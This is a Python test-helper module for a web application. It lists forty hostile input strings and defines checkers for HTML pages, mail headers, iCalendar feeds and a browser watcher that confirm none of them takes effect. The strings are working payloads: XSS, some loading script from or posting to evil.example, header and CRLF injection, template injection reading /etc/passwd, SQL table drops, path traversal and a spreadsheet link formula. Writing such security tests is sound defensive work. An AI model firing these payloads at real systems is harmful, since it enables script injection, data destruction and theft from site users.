"""Forty hostile texts for every field of a stranger, and checks that none of them bit.

A test puts each of `HOSTILE` into a field and then looks at what comes out: pages with
`runs_script` and `Watcher`, mail with `splits_header`, feeds with `breaks_calendar`.
"""

import re
from dataclasses import dataclass, field
from html.parser import HTMLParser
from typing import Any

HOSTILE: tuple[str, ...] = (
    # Script in element content.
    "<script>alert(1)</script>",
    "</title><script>alert(2)</script>",
    "</textarea><script>alert(3)</script>",
    "</script><script>alert(4)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(5)>",
    "<svg/onload=alert(6)>",
    "<svg><animate onbegin=alert(7) attributeName=x dur=1s>",
    "<details open ontoggle=alert(8)>",
    "<iframe srcdoc='<script>parent.alert(9)</script>'></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(10)>",
    "<form action=//evil.example><button>Sign in</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>*{display:none}</style>",
    "<!--><script>alert(11)</script-->",
    "<![CDATA[<script>alert(12)</script>]]>",
    # Out of an attribute.
    '" autofocus onfocus=alert(13) x="',
    "' autofocus onfocus=alert(14) x='",
    "` onmouseover=alert(15) `",
    '"><svg onload=alert(16)>',
    # Addresses that run.
    "javascript:alert(17)",
    "JaVaScRiPt&colon;alert(18)",
    "data:text/html,<script>alert(19)</script>",
    "//evil.example/%0d%0aSet-Cookie:a=b",
    # Templates and formats that are filled in later.
    "{{ 1913*1913 }}{% include '/etc/passwd' %}",
    "${1913*1913}#{1913*1913}<%= 1913*1913 %>",
    "%s%n%(password)s{0.__class__.__mro__}",
    "=HYPERLINK('//evil.example','x')",
    "#link('javascript:alert(20)')[x] #include '/etc/passwd' $ @a `r` \\",
    # Lines where one was asked for: mail headers, calendars, logs.
    "Ann\r\nBcc: everybody@evil.example",
    "Ann\nContent-Type: text/html\n\n<script>alert(21)</script>",
    "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:Forged",
    'semi;colon,comma\\nback\\slash:colon"quote"',
    # Databases and paths.
    "'; DROP TABLE store_person; --",
    "../../../../etc/passwd\x00.png",
    # Text that is not what it seems, or too much of it.
    "\u202egnp.exe\u2066\u200b\ufeff",
    "Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309" * 12,
    "W" * 4_000,
    "\U0001f680\ufffe\x07\x1b[31m\x9b",
)

_FORGED = re.compile(r"^(bcc|content-type|set-cookie)\s*:", re.IGNORECASE)
_RUNS_AS_ADDRESS = re.compile(r"^[\s\x00-\x20]*(javascript|vbscript|data)\s*:", re.IGNORECASE)
_ADDRESSES = frozenset({"href", "src", "action", "formaction", "srcdoc", "xlink:href", "poster"})
_NEVER = frozenset({"base", "iframe", "object", "embed", "math"})


class _Reading(HTMLParser):
    """Collects whatever in a page would run, lead away or is in no page of ours."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._script = False

    def handle_starttag(self, tag, attrs):
        names = dict(attrs)
        self._script = tag == "script" and names.get("type") != "application/json"
        if tag in _NEVER or (tag == "script" and "evil" in (names.get("src") or "")):
            self.found.append(f"<{tag}>")
        if tag == "meta" and (names.get("http-equiv") or "").casefold() == "refresh":
            self.found.append("<meta refresh>")
        for name, value in attrs:
            if name.startswith("on"):
                self.found.append(f"{tag} {name}={value}")
            if name in _ADDRESSES and _leads_away(value or ""):
                self.found.append(f"{tag} {name}={value}")

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)

    def handle_data(self, data):
        if self._script and data.strip():
            self.found.append(f"inline script {data[:60]}")

    def handle_endtag(self, tag):
        self._script = self._script and tag != "script"


def _leads_away(address):
    return bool(_RUNS_AS_ADDRESS.match(address)) or address.strip().startswith("//evil.example")


def runs_script(page):
    """Return everything in an HTML page that a hostile text could have put there."""
    reading = _Reading()
    reading.feed(page)
    reading.close()
    found = reading.found
    if "3659569" in page:  # 1913*1913
        found.append("a template was filled in")
    return found


def splits_header(message):
    """Return the header lines of a mail, as sent, that no sender of ours wrote."""
    head = message.replace("\r\n", "\n").partition("\n\n")[0].split("\n")
    return [
        line
        for line in head
        if _FORGED.match(line) and ("evil" in line or "text/html" in line or "a=b" in line)
    ]


def breaks_calendar(feed):
    """Return what is wrong with an iCalendar file by RFC 5545: lines and nesting."""
    wrong: list[str] = []
    raw = feed.split(b"\r\n")
    if feed and raw[-1] != b"":
        wrong.append("the last line has no end")
    for line in raw:
        if b"\n" in line or b"\r" in line:
            wrong.append(f"a bare line end in {line[:60]!r}")
        if len(line) > 75:
            wrong.append(f"{len(line)} octets in one line")
        if any(octet < 32 and octet != 9 for octet in line.replace(b"\n", b"").replace(b"\r", b"")):
            wrong.append(f"a control character in {line[:60]!r}")
    return wrong + _nesting(feed)


def _nesting(feed):
    lines = feed.decode("utf-8").replace("\r\n ", "").split("\r\n")
    wrong: list[str] = []
    open_parts: list[str] = []
    for line in filter(None, lines):
        name, _, value = line.partition(":")
        if name == "BEGIN":
            open_parts.append(value)
        elif name == "END" and (not open_parts or open_parts.pop() != value):
            wrong.append(f"{line} closes nothing")
        elif not re.match(r"^[A-Z][A-Z0-9-]*(;[A-Z-]+=(\"[^\"]*\"|[^;:\"]*))*$", name):
            wrong.append(f"no property name in {line[:60]!r}")
        elif line == "SUMMARY:Forged":
            wrong.append("a forged event")
    return wrong + [f"{part} is never closed" for part in open_parts]


@dataclass
class Watcher:
    """Listens to a browser page for anything that a hostile text set off.

    `page` is a Playwright page; call `nothing_ran` after each address.
    """

    page: Any
    seen: list[str] = field(default_factory=list)

    def __post_init__(self):
        self.page.on("dialog", self._dialog)
        self.page.on("console", self._console)
        self.page.on("pageerror", lambda error: self.seen.append(f"error: {error}"))
        self.page.on("request", self._request)

    def _dialog(self, dialog):
        self.seen.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    def _console(self, message):
        if "Content Security Policy" in message.text or "Content-Security-Policy" in message.text:
            self.seen.append(f"refused by policy: {message.text}")

    def _request(self, request):
        if "evil.example" in request.url:
            self.seen.append(f"request: {request.url}")

    def nothing_ran(self):
        """Fail with what was seen since the last look."""
        seen, self.seen = self.seen, []
        assert not seen, f"{self.page.url}: {seen}"
